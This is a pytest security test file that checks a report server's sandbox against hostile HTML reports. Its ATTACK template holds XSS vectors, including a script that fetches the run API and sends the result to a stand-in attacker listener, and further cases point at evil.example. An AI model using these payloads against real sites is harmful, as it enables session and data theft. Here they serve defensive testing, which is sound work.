"""A run's report is a page of whoever made the run. On the server it shows itself, and can do nothing else."""

import http.server
import re
import shutil
import socket
import threading
import time
from contextlib import contextmanager
from types import SimpleNamespace

import pytest
import uvicorn
from PIL import Image

from penlight.runs import open_run
from penlight.serve import RequestLimits, make_app, open_registry
from penlight.serve.connections import settings
from penlight.serve.pages import report
from tests.drawn import shelf_folder

expect = pytest.importorskip("playwright.sync_api").expect

SECRETS = ("/api/v1/runs", "/runs/fundus", "/runs/fundus/report", "/metrics", "/static/theme.js")

ATTACK = """<!doctype html><html lang="en"><head><title>before</title>
<base href="{evil}/base/">
<style>@import url({evil}/import.css); @font-face {{ font-family: x; src: url({evil}/font) }}
body {{ background: url({evil}/background.png); font-family: x }}
p[title^="a"] {{ background: url({evil}/letter) }}</style>
<script>document.title = "ran"; fetch("/api/v1/runs").then(r => r.text()).then(t => fetch("{evil}/?" + t))</script>
<script src="{evil}/script.js"></script><script src="/static/theme.js"></script>
<script type="module">import "{evil}/m.js"</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{evil}/speculated"]}}]}}</script></head>
<body onload="document.title = 'ran'"><p title="abc">Hostile</p>
<img src="{evil}/image.png" onerror="document.title = 'ran'"><img src="x" onerror="document.title = 'ran'">
<svg onload="document.title = 'ran'"><image href="{evil}/svg.png"/><use href="{evil}/use.svg#x"/></svg>
<iframe src="{evil}/frame"></iframe><iframe src="/runs/fundus"></iframe>
<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video poster="{evil}/poster" src="{evil}/video"></video>
<audio src="{evil}/audio" autoplay></audio><input type="image" src="{evil}/input.png">
<form id="form" action="{evil}/form" method="post"><button id="send">Send</button></form>
<form id="own" action="/api/v1/runs/fundus/explain" method="post" enctype="multipart/form-data"><button id="explain">E
</button></form><a id="script" href="javascript:document.title='ran'">script</a>
<a id="popup" href="{evil}/popup" target="_blank">popup</a><a id="ping" href="#here" ping="{evil}/ping">ping</a>
<p id="here">end</p></body></html>"""


@contextmanager
def listener():
    """A server of the attacker's, and the paths that anybody asked of it."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def serving(folder):
    app = make_app(open_registry([folder]), names={"127.0.0.1"}, token="a-long-token")
    server = uvicorn.Server(uvicorn.Config(app, **settings(RequestLimits())))
    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
        thread.start()
        while not server.started:
            time.sleep(0.01)
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join()


@pytest.fixture(scope="module")
def attacked(browser, tmp_path_factory):
    """A page in which the hostile report has loaded, the server's address, and what the attacker's server was asked.

    The browser has signed in, so it sends the token wherever it may.
    """
    folder = tmp_path_factory.mktemp("runs")
    for name in ("evil", "fundus"):
        shutil.copytree(shelf_folder() / "fundus", folder / name)
    with listener() as (evil, asked):
        open_run(folder / "evil").replace("report.html", ATTACK.format(evil=evil).encode())
        with serving(folder) as address:
            context = browser.new_context(
                base_url=address, http_credentials={"username": "any", "password": "a-long-token"}
            )
            page = context.new_page()
            answer = page.goto("/runs/evil/report")
            assert answer.status == 200
            page.wait_for_timeout(500)
            yield page, evil, asked
            context.close()


def test_nothing_of_a_hostile_report_runs_or_loads(attacked):
    page, _, asked = attacked
    expect(page.get_by_text("Hostile")).to_be_visible()
    for link in ("#script", "#popup", "#ping", "#send", "#explain"):
        page.locator(link).click(no_wait_after=True)
    page.wait_for_timeout(500)
    assert page.title() == "before"
    assert page.url.partition("#")[0].endswith("/runs/evil/report")
    assert page.context.pages == [page]
    assert asked == []


def test_a_script_that_ran_there_would_reach_nothing(attacked):
    """What a script of the page could try, tried from inside it: the sandbox holds even if a script were to run."""
    page, evil, asked = attacked
    for address in (*SECRETS, f"{evil}/fetch"):
        for options in ("{}", "{mode: 'no-cors', credentials: 'include'}", "{method: 'POST', body: 'x'}"):
            said = page.evaluate(f"fetch('{address}', {options}).then(r => 'read ' + r.status, e => 'refused')")
            assert said == "refused", address
    for reached in ("document.cookie", "localStorage.length", "sessionStorage.length", "indexedDB.open('x')"):
        assert page.evaluate(f"(() => {{ try {{ return String({reached}) }} catch (e) {{ return e.name }} }})()") in (
            "SecurityError",
            "",
        )
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("window.open('/runs/fundus') === null")
    page.evaluate(f"navigator.sendBeacon('{evil}/beacon', 'x')")
    framed = """() => new Promise(done => {
      const frame = document.createElement('iframe');
      frame.onload = () => { try { done(frame.contentDocument.body.textContent) } catch (e) { done(e.name) } };
      frame.src = '/runs/fundus'; document.body.append(frame); setTimeout(() => done('nothing'), 1000);
    })"""
    assert page.evaluate(framed) in ("SecurityError", "TypeError", "nothing", "")
    page.evaluate(f"(() => {{ try {{ new WebSocket('{evil.replace('http', 'ws')}/ws') }} catch (e) {{}} }})()")
    page.evaluate(f"new Image().src = '{evil}/beacon.png'")
    worker = "() => { try { new Worker('/static/theme.js'); return 'made' } catch (e) { return e.name } }"
    assert page.evaluate(worker) != "made"
    page.wait_for_timeout(300)
    assert asked == []


@pytest.mark.parametrize(
    "page",
    [
        b'<meta http-equiv="refresh" content="0; url=http://evil.example">',
        b"<META HTTP-EQUIV=refresh content=0>",
        b'<link rel="preconnect" href="http://evil.example">',
        b"<LINK rel=dns-prefetch href=//evil.example>",
        b"\xff\xfe" + '<meta http-equiv="refresh" content="0">'.encode("utf-16-le"),
        b"\xfe\xff" + '<meta http-equiv="refresh" content="0">'.encode("utf-16-be"),
        b"caf\xe9",
    ],
)
def test_what_no_policy_stops_is_not_served(page):
    from penlight.serve.limits import RequestError

    with pytest.raises(RequestError, match="not one that Penlight wrote"):
        report(SimpleNamespace(report=page))


def test_a_report_of_penlight_works_in_its_sandbox(page):
    """Its own script runs, and survives that it may keep nothing; the rest of the pages keep their theme."""
    page.goto("/runs/fundus/report")
    ground = "() => getComputedStyle(document.body).backgroundColor"
    day = page.evaluate(ground)
    button = page.get_by_role("button", name="Switch between light and dark mode")
    expect(button).to_have_text("Night")
    button.click()
    expect(button).to_have_text("Day")
    assert page.evaluate(ground) != day
    page.get_by_role("link", name="Scores", exact=True).click()
    assert page.url.endswith("#scores")
    assert page.evaluate("self.origin") == "null"


def test_a_figure_is_saved_from_within_the_sandbox(page, tmp_path):
    page.goto("/runs/fundus/report")
    figure = page.locator("figure[data-name=bars]")
    saved = {}
    for kind in ("SVG", "PNG", "CSV"):
        with page.expect_download() as download:
            figure.get_by_role("button", name=f"as {kind}").click()
        assert download.value.suggested_filename == f"bars.{kind.lower()}"
        saved[kind] = tmp_path / kind
        download.value.save_as(saved[kind])
    svg = saved["SVG"].read_text()
    assert svg.startswith("<svg ")
    assert "var(" not in svg
    with Image.open(saved["PNG"]) as image:
        assert image.format == "PNG"
        assert image.width == 2 * int(re.search(r'viewBox="0 0 (\d+)', svg)[1])
        assert len(image.convert("RGB").getcolors(1 << 20)) > 10
    assert saved["CSV"].read_text().startswith("metric,model,value,low,high\n")
